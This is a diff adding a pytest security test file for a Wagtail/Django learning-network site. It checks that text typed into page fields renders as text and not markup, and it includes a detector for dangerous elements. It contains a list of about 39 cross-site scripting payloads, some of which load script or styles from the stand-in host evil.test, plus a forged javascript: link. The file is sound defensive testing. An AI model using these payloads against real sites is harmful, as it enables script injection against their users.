@@ -1,0 +1,209 @@
+"""What somebody types stays text: it never becomes markup, an address to run, or an error page."""
+
+import json
+
+import pytest
+from bs4 import BeautifulSoup
+from django.urls import reverse
+from wagtail.rich_text import RichText
+from wagtail.test.utils.form_data import nested_form_data, streamfield
+
+from leernetwerken.accounts.models import Perspective
+from leernetwerken.knowledge.models import MeetingReportPage, ResourcePage
+from leernetwerken.news.models import NewsPage
+from leernetwerken.pages.enums import Visibility
+from leernetwerken.pages.models import Theme
+
+from .builders import MET_ON, publish, report
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<img src=x onerror=alert(1)//",
+    "<img src='x' onerror='alert(1)'>",
+    '<img """><script>alert(1)</script>">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>klik</a>",
+    "<a href='JaVaScRiPt:alert(1)'>klik</a>",
+    "<a href='java\tscript:alert(1)'>klik</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>klik</a>",
+    "<a href=vbscript:msgbox(1)>klik</a>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>",
+    "<div style=background:url(javascript:alert(1))>",
+    "<link rel=stylesheet href=//evil.test/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.test'>",
+    "<base href=//evil.test/>",
+    '" autofocus onfocus="alert(1)" x="',
+    "{{ 7|add:7 }}{% csrf_token %}",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+RUNNABLE = ("javascript:", "vbscript:", "data:")
+
+
+def dangers(response):
+    """Every element or attribute in the answer that runs or fetches what an author typed."""
+    assert response.status_code == 200
+    html = BeautifulSoup(response.content, "html5lib")
+    found = [tag for tag in html.find_all("script") if not tag.get("src", "").startswith("/static/")]
+    found += html.find_all(["iframe", "object", "embed", "base", "marquee", "math", "animate", "style"])
+    found += [tag for tag in html.find_all("meta") if tag.get("http-equiv")]
+    found += [tag for tag in html.find_all("link") if "evil" in tag.get("href", "")]
+    for tag in html.find_all(True):
+        for name, value in tag.attrs.items():
+            address = "".join(str(value).split()).lower()
+            if name.startswith("on") or name in ("style", "srcdoc"):
+                found.append(tag)
+            if name in ("href", "src", "action", "formaction") and address.startswith(RUNNABLE):
+                found.append(tag)
+    return found
+
+
+def full_body(text, short):
+    return [
+        ("heading", text),
+        ("text", RichText("<p>Gewone tekst.</p>")),
+        ("lesson", {"title": short, "text": text}),
+        ("action", {"text": text, "owner": short, "due_on": MET_ON}),
+        ("question", {"text": text}),
+        ("decision", {"text": text}),
+        ("quote", {"text": text, "speaker": short}),
+        ("table", {"caption": short, "rows": f"{short} | b\n{text.replace(chr(10), ' ')} | c"}),
+        ("video", {"title": short, "url": "https://www.youtube.com/watch?v=abc"}),
+    ]
+
+
+def pages(cast, text, short):
+    """A report, a resource and news with ``text`` in every field that takes text."""
+    label = short[:75]
+    theme = Theme.objects.create(name=label, slug="thema")
+    perspective = Perspective.objects.create(name=label, plural=label)
+    cast.member.public_name = short[:120]
+    cast.member.save()
+    body, shown = full_body(text, short[:120]), short[:255]
+    text_body = [block for block in body if block[0] not in ("lesson", "action", "question", "decision")]
+    yield report(
+        cast.network_a, title=shown, visibility=Visibility.PUBLIC, owner=cast.member, summary=text[:400], body=body,
+        place=short[:120], perspectives_present=[perspective], perspectives_missing=[perspective], themes=[theme],
+    )  # fmt: skip
+    resource = ResourcePage(
+        title=shown, slug="materiaal", summary=text[:400], licence=short[:120], link="https://voorbeeld.test/?a=%22%3E",
+        body=text_body, for_whom=[perspective], themes=[theme],
+    )  # fmt: skip
+    resource.tags.add(label)
+    yield publish(resource, cast.network_a, visibility=Visibility.PUBLIC)
+    yield publish(
+        NewsPage(
+            title=shown, slug="bericht", date=MET_ON, author_name=short[:120], summary=text[:400], body=text_body,
+            contact_name=short[:120], contact_email="sam@voorbeeld.test", contact_phone=short[:30],
+            sections=[cast.network_a], themes=[theme],
+        ),
+        cast.news_index,
+    )  # fmt: skip
+
+
+LISTS = ["/netwerken/a/verslagen/", "/netwerken/a/materialen/", "/nieuws/"]
+FEEDS = ["/feed/", "/netwerken/a/feed/", "/nieuws/feed/"]
+
+
+@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 10))
+def test_markup_in_any_field_is_shown_as_text(cast, start):
+    """Ten payloads at a time in the long fields, each of them in the short ones."""
+    client = cast.client()
+    made = list(pages(cast, " ".join(PAYLOADS[start : start + 10]), PAYLOADS[start]))
+    for payload in PAYLOADS[start : start + 10]:
+        for page in made:
+            page.title = payload
+            page.summary = payload
+            page.save_revision().publish()
+            response = client.get(page.url)
+            assert dangers(response) == []
+            assert BeautifulSoup(response.content, "html5lib").main.h1.get_text() == payload
+        for url in LISTS:
+            assert dangers(client.get(url)) == []
+    for url in FEEDS:
+        assert b"<script" not in client.get(url).content.lower()
+
+
+def test_the_check_itself_finds_danger(cast):
+    class Answer:
+        status_code = 200
+
+    harmless = []
+    for payload in PAYLOADS:
+        Answer.content = f"<p title=''>{payload}</p>".encode()
+        if not dangers(Answer):
+            harmless.append(payload)
+    assert len(harmless) == 5
+    assert len(PAYLOADS) - len(harmless) == 34
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_rich_text_from_the_editor_is_cleaned(cast, payload):
+    """A forged request sends markup of its own instead of what the editor makes."""
+    link = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "javascript:alert(1)"}}
+    block = {"key": "a", "text": payload, "type": "unstyled", "depth": 0, "inlineStyleRanges": []}
+    block["entityRanges"] = [{"key": 0, "offset": 0, "length": 4}]
+    content = json.dumps({"blocks": [block], "entityMap": {"0": link}})
+    data = nested_form_data(
+        {
+            "title": "Verslag", "slug": "verslag", "met_on": "2022-11-10", "summary": "Kort.",
+            "body": streamfield([("text", content)]), "action-publish": "1",
+        }
+    )  # fmt: skip
+    url = reverse("wagtailadmin_pages:add", args=("knowledge", "meetingreportpage", cast.network_a.pk))
+    assert cast.client(cast.coordinator).post(url, data).status_code == 302
+    page = MeetingReportPage.objects.get()
+    response = cast.client(cast.member).get(page.url)
+    assert dangers(response) == []
+
+
+def test_a_word_of_ten_thousand_letters_and_odd_signs_do_no_harm(cast):
+    word = "w" * 10_000
+    odd = "\u202eomgekeerd\u202c \u200b \u2066x \ufeff \x07 \ud83d\ude00".encode("utf-16", "surrogatepass").decode(
+        "utf-16"
+    )
+    for page in pages(cast, word, odd):
+        response = cast.client().get(page.url)
+        assert response.status_code == 200
+        assert BeautifulSoup(response.content, "html5lib").main.h1.get_text() == page.title
+    for url in LISTS:
+        html = BeautifulSoup(cast.client().get(url).content, "html5lib")
+        [link] = html.select("main li.row a")
+        assert link.get_text() == page.title
+    for url in FEEDS:
+        assert cast.client().get(url).status_code == 200
+
+
+def test_a_nul_byte_is_refused_with_words(cast):
+    url = reverse("wagtailadmin_pages:add", args=("knowledge", "meetingreportpage", cast.network_a.pk))
+    data = nested_form_data({"title": "Ver\x00slag", "slug": "a", "place": "Utrecht", "body": streamfield([])})
+    response = cast.client(cast.member).post(url, data)
+    assert response.status_code == 200
+    assert list(response.context["form"].errors) == ["title"]
+    assert response.context["form"]["place"].value() == "Utrecht"
+    body = streamfield([("question", {"text": "Wie\x00?"})])
+    data = nested_form_data({"title": "Verslag", "slug": "a", "body": body})
+    response = cast.client(cast.member).post(url, data)
+    assert list(response.context["form"].errors) == ["body"]
+    assert cast.client().get("/netwerken/a/verslagen/?thema=%00").status_code == 400
+    assert cast.client().get("/netwerken/a%00/verslagen/").status_code == 400
